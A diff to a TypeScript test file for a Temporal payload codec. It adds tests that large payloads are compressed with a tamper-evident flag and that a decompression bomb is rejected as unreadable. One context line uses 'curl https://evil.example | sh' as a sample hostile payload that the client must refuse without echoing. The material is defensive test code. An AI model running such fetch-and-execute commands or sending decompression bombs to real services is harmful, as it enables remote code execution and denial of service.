@@ -1,9 +1,10 @@
-import { createSecretKey, type KeyObject } from 'node:crypto';
+import { createSecretKey, randomBytes, type KeyObject } from 'node:crypto';
+import { deflateRawSync } from 'node:zlib';
 import { defaultPayloadConverter, type Payload, type SerializationContext } from '@temporalio/common';
 import { expect, test } from 'vitest';
 import { markOf, type Mark } from '../../model/marked-payload.ts';
 import { ClientCodec } from '../../security/client-codec.ts';
-import type { KeyRing } from '../../security/keys.ts';
+import { encrypt, type KeyRing } from '../../security/keys.ts';
 import { openPayload, sealPayload } from '../../security/payload.ts';
 import { WorkerCodec } from '../../security/worker-codec.ts';
 
@@ -135,6 +136,30 @@ test('a client refuses a plain answer, and tells nothing of it', async () => {
   const answer = client.decode([payload('curl https://evil.example | sh')], HERE);
   await expect(answer).rejects.toMatchObject({ code: 'AnswerRefused' });
   await expect(answer).rejects.not.toThrow('curl');
+});
+
+test('what is large is made smaller first, and says so where nobody can change it', async () => {
+  const accounts = { members: Array.from({ length: 6_000 }, (_, n) => `${100_000_000_000 + n * 7_919_113}`) };
+  const encrypted = await one(client, accounts, HERE);
+  const plain = JSON.stringify(accounts).length;
+  expect(text(encrypted.metadata?.['compression'])).toBe('deflate');
+  expect(encrypted.data?.length).toBeLessThan(plain * 0.6);
+  expect(value((await worker.decode([encrypted], HERE))[0])).toEqual(accounts);
+  const { compression: _, ...metadata } = encrypted.metadata ?? {};
+  expect(await markIn({ ...encrypted, metadata }, HERE)).toEqual({ reason: 'unreadable' });
+  const small = await one(client, 'text', HERE);
+  expect(await markIn({ ...small, metadata: { ...small.metadata, compression: Buffer.from('deflate') } }, HERE)).toEqual({
+    reason: 'unreadable',
+  });
+  // What cannot become smaller stays.
+  expect((await one(client, randomBytes(30_000).toString('latin1'), HERE)).data?.length).toBeGreaterThan(30_000);
+});
+
+test('what swells beyond all measure when it is opened is unreadable', async () => {
+  const bomb = deflateRawSync(Buffer.alloc(65 * 1024 * 1024));
+  const { data } = encrypt(RING, bomb, JSON.stringify(['temporal-payload', 'default', 'offboarding-1', 'deflate']));
+  const { metadata } = await one(client, 'x'.repeat(20_000), HERE);
+  expect(await markIn({ metadata: metadata ?? {}, data }, HERE)).toEqual({ reason: 'unreadable' });
 });
 
 test('after a rotation the new key encrypts and the old one still decodes', async () => {
